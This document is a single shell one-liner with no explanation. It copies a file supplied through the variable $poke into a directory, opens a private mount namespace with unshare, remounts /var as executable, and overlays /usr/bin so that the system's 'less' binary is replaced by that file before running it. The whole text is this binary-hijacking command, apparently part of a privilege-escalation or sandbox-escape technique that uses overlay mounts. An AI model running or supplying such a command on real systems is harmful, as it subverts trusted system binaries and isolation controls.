mkdir u w; cp $poke u/less; ran "$(unshare -m sh -c "mount -o remount,bind,exec /var; mount -t overlay -o lowerdir=/usr/bin,upperdir=$PWD/u,workdir=$PWD/w overlay /usr/bin && /usr/bin/less hello")"
